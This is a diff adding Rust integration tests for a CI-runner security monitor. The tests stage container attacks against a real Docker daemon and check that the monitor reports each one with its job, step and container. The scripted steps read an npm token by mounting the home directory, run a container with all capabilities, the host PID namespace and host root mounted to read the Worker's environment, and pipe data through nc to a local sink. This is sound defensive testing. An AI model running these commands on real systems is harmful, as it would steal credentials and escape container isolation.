@@ -1,0 +1,277 @@
+//! Containers, end to end with a real Docker daemon (`integration_tests::docker`): a step's
+//! `docker run` that mounts the home and reads the npm token, a privileged container in the
+//! host's PID namespace with the host's `/` mounted that reads the Worker's environment, a
+//! container sending to a sink on the test's own bridge, and a `container:`-style job whose step
+//! runs by `docker exec` with the step's environment. Each attack proves its effect (the token
+//! printed, the environment read, the sink got the bytes) before the findings are checked; each
+//! finding must name the job, the step and the container. The twins (a project directory
+//! mounted for a build, a container reading its own files, a service container serving the
+//! job, the runner's own job container) stay quiet.
+//!
+//! The tests run one at a time: a container is linked to the one job running when it is made,
+//! and parallel tests would be several jobs.
+
+use std::{io::Read as _, sync::Mutex};
+
+use integration_tests::{
+    by_rule,
+    docker::{daemon, BRIDGE_HOST},
+    Agent, FakeRunner, MARKER_STEP,
+};
+
+static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());
+
+const TOKEN: &str = "npm_CONTAINERCANARY0000000000000000000000";
+
+fn agent() -> Agent {
+    let d = daemon();
+    Agent::start_with(&["--docker-socket", &d.socket.display().to_string()])
+}
+
+/// A runner whose home holds a canary npm token and whose workspace a project file.
+fn runner() -> FakeRunner {
+    let runner = FakeRunner::outside_tmp();
+    std::fs::write(
+        runner.home.join(".npmrc"),
+        format!("//registry.npmjs.org/:_authToken={TOKEN}\n"),
+    )
+    .unwrap();
+    std::fs::write(runner.workspace.join("project.txt"), "project source\n").unwrap();
+    runner
+}
+
+/// A sink on the bridge's host address (only the test's containers reach it): what it received.
+fn bridge_sink() -> (u16, std::sync::mpsc::Receiver<Vec<u8>>) {
+    let listener = std::net::TcpListener::bind((BRIDGE_HOST, 0)).expect("sink on the bridge");
+    let port = listener.local_addr().unwrap().port();
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        for mut conn in listener.incoming().flatten() {
+            let _ = conn.set_read_timeout(Some(std::time::Duration::from_secs(5)));
+            let mut got = Vec::new();
+            let _ = conn.read_to_end(&mut got);
+            let _ = tx.send(got);
+        }
+    });
+    (port, rx)
+}
+
+fn names_container(f: &serde_json::Value, name: &str) -> bool {
+    f["container"]["name"] == name && f["container"]["id"].as_str().is_some_and(|i| i.len() == 64)
+}
+
+#[test]
+fn a_steps_containers_are_judged_in_that_step() {
+    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
+    let d = daemon();
+    let image = d.busybox_image();
+    let agent = agent();
+    let runner = runner();
+    let (port, received) = bridge_sink();
+    let tag = &runner.run_id;
+    let host = d.host();
+    let w = runner.workspace.display().to_string();
+    let twin = format!(
+        "set -e\nexport DOCKER_HOST={host}\n\
+         docker run --rm --name twin-build-{tag} -v '{w}:/src' {image} cat /src/project.txt\n\
+         docker run --rm --name twin-own-{tag} {image} cat /data/own.txt\n\
+         printf 'FROM {image}\\nRUN cat /data/own.txt > /data/copy && echo built-layer\\n' | docker build -q -t twin-img-{tag} - >/dev/null\n\
+         docker run --rm twin-img-{tag} cat /data/copy\n"
+    );
+    let steal = format!(
+        "set -e\nexport DOCKER_HOST={host}\n\
+         docker run --rm --name steal-{tag} -v \"$HOME:/h\" {image} cat /h/.npmrc\n"
+    );
+    // Every capability (`--privileged` itself cannot start here: this machine's bounding set
+    // lacks CAP_SYS_RESOURCE, which runc then fails to apply), the host's PID namespace and `/`.
+    let escape = format!(
+        "set -e\nexport DOCKER_HOST={host}\nworker=$PPID\n\
+         docker run --rm --name escape-{tag} --cap-add ALL --cap-drop SYS_RESOURCE --pid=host -v /:/host {image} \
+         sh -c \"grep -q PATH= /proc/$worker/environ && echo environ-read\"\n"
+    );
+    let egress = format!(
+        "set -e\nexport DOCKER_HOST={host}\n\
+         docker run --rm --name egress-{tag} {image} sh -c 'echo EXFIL-{tag} | nc {BRIDGE_HOST} {port}'\n"
+    );
+    let output = runner.run_job(&[
+        ("twin", &twin),
+        ("steal", &steal),
+        ("escape", &escape),
+        ("egress", &egress),
+        MARKER_STEP,
+    ]);
+    // The attacks happened.
+    assert!(output.contains("project source"), "{output}");
+    assert!(output.contains("the container's own file"), "{output}");
+    assert_eq!(
+        output.matches("the container's own file").count(),
+        2,
+        "the image built from it copied the file: {output}"
+    );
+    assert!(output.contains(TOKEN), "the token was not read: {output}");
+    assert!(output.contains("environ-read"), "{output}");
+    let got = received
+        .recv_timeout(std::time::Duration::from_secs(10))
+        .expect("the sink got nothing");
+    assert!(
+        String::from_utf8_lossy(&got).contains(&format!("EXFIL-{tag}")),
+        "{got:?}"
+    );
+
+    let mine = agent.findings_through_marker(&runner);
+    assert!(
+        !mine.iter().any(|f| f["step"]["id"] == "twin"),
+        "the twin must stay quiet: {mine:#?}"
+    );
+    let steal_name = format!("steal-{tag}");
+    let read = by_rule(&mine, "credential-read");
+    assert!(
+        read.iter().any(|f| f["step"]["id"] == "steal"
+            && names_container(f, &steal_name)
+            && f["evidence"]["opened_as"] == "/h/.npmrc"
+            && f["evidence"]["path"] == format!("{}/.npmrc", runner.home.display())),
+        "the token read in the container, with its host path: {mine:#?}"
+    );
+    let risks = by_rule(&mine, "container-escape-risk");
+    assert!(
+        risks
+            .iter()
+            .any(|f| f["step"]["id"] == "steal" && names_container(f, &steal_name)),
+        "a home mounted into a container: {mine:#?}"
+    );
+    let escape_name = format!("escape-{tag}");
+    let escape_risk = risks
+        .iter()
+        .find(|f| f["step"]["id"] == "escape" && names_container(f, &escape_name))
+        .unwrap_or_else(|| panic!("the privileged container: {mine:#?}"));
+    let said = escape_risk["evidence"]["risks"].to_string();
+    for reason in ["capability ALL", "pid namespace", "the host's / mounted"] {
+        assert!(said.contains(reason), "{reason}: {said}");
+    }
+    assert!(
+        mine.iter().any(|f| f["step"]["id"] == "escape"
+            && (f["rule"] == "process-environ-read" || f["rule"] == "process-memory-read")
+            && names_container(f, &escape_name)),
+        "the Worker's environment read from the container: {mine:#?}"
+    );
+    assert!(
+        by_rule(&mine, "unexpected-egress")
+            .iter()
+            .any(|f| f["step"]["id"] == "egress"
+                && names_container(f, &format!("egress-{tag}"))
+                && f["evidence"]["port"] == port),
+        "the container's connection to the sink: {mine:#?}"
+    );
+    // The runtime's API was asked, and says so; so does `monitor doctor`.
+    let metrics = agent.scrape();
+    assert!(
+        metrics.contains("monitor_container_runtime_up 1"),
+        "{metrics}"
+    );
+    let doctor = std::process::Command::new(integration_tests::monitor_bin())
+        .args(["doctor", "--no-load", "--docker-socket"])
+        .arg(&d.socket)
+        .output()
+        .unwrap();
+    let said = String::from_utf8_lossy(&doctor.stdout);
+    assert!(
+        said.lines()
+            .any(|l| l.contains("containers") && l.contains("answers at")),
+        "{said}"
+    );
+}
+
+#[test]
+fn a_container_jobs_steps_run_by_docker_exec_are_its_steps() {
+    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
+    let d = daemon();
+    let image = d.busybox_image();
+    let agent = agent();
+    let runner = runner();
+    let tag = &runner.run_id;
+    let host = d.host();
+    let w = runner.workspace.display().to_string();
+    let job = format!("job-{tag}");
+    let service = format!("db-{tag}");
+    // The runner's "Initialize containers": the job container (workspace and home mounted, as
+    // the runner does) and a service container, made by the Worker before any step.
+    let initialise = format!(
+        "set -e\nexport DOCKER_HOST={host}\n\
+         docker run -d --name {job} -v '{w}:/__w' -v \"$HOME:/github/home\" {image} sleep 600 >/dev/null\n\
+         docker run -d --name {service} {image} httpd -f -p 8080 >/dev/null\n"
+    );
+    // Each step as the runner runs it in a container job: `docker exec` with its environment.
+    let exec = |script: &str| {
+        format!(
+            "set -e\nexport DOCKER_HOST={host}\n\
+             docker exec $(env | grep -o '^GITHUB_[A-Z_]*' | sed 's/^/-e /') {job} sh -c '{script}'\n"
+        )
+    };
+    let build = exec("cat /__w/project.txt && cat /data/own.txt && wget -q -O /dev/null http://db:8080/ 2>/dev/null; true");
+    let steal = exec("cat /github/home/.npmrc");
+    let cleanup = format!("export DOCKER_HOST={host}\ndocker rm -f {job} {service} >/dev/null\n");
+    // With the runner's job hooks, as the README installs it: the job is declared before the
+    // runner makes its containers.
+    let output = runner.run_job_with_hooks(
+        &[
+            ("", &initialise),
+            ("build", &build),
+            ("stealer", &steal),
+            ("", &cleanup),
+            MARKER_STEP,
+        ],
+        Some(&agent.control_socket),
+    );
+    assert!(output.contains("project source"), "{output}");
+    assert!(output.contains(TOKEN), "the token was not read: {output}");
+
+    let mine = agent.findings_through_marker(&runner);
+    let read = by_rule(&mine, "credential-read");
+    assert!(
+        read.iter().any(|f| f["step"]["id"] == "stealer"
+            && names_container(f, &job)
+            && f["evidence"]["opened_as"] == "/github/home/.npmrc"),
+        "the token read in the job container, in the step that ran it: {mine:#?}"
+    );
+    assert!(
+        !mine.iter().any(|f| f["step"]["id"] == "build"),
+        "a build step reading its workspace and its own files is quiet: {mine:#?}"
+    );
+    // The runner's own job container mounts the home (as the real runner mounts its
+    // `_github_home`): its settings are the workflow's, not a step's doing.
+    assert!(
+        by_rule(&mine, "container-escape-risk").is_empty(),
+        "containers the runner made are not a step's escape: {mine:#?}"
+    );
+    assert!(
+        !mine
+            .iter()
+            .any(|f| names_container(f, &service) || f["rule"] == "outlived-step"),
+        "the service container serves the job quietly: {mine:#?}"
+    );
+    // The report lists the containers, with the step each belongs to and what ran inside.
+    let report = agent.wait_for_report(&runner);
+    let containers = report["containers"].as_array().cloned().unwrap_or_default();
+    let listed = |name: &str| {
+        containers
+            .iter()
+            .find(|c| c["name"] == name)
+            .unwrap_or_else(|| panic!("{name} not in the report: {containers:#?}"))
+            .clone()
+    };
+    let job_container = listed(&job);
+    assert_eq!(job_container["image"], image);
+    assert!(
+        job_container["processes"].as_u64().unwrap() >= 3,
+        "{job_container}"
+    );
+    assert_eq!(listed(&service)["image"], image);
+    let ran_inside = report["steps"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|s| s["step"]["id"] == "stealer")
+        .flat_map(|s| s["processes"].as_array().cloned().unwrap_or_default())
+        .any(|p| p["container"] == job_container["id"] && p["argv"].to_string().contains(".npmrc"));
+    assert!(ran_inside, "{report:#}");
+}
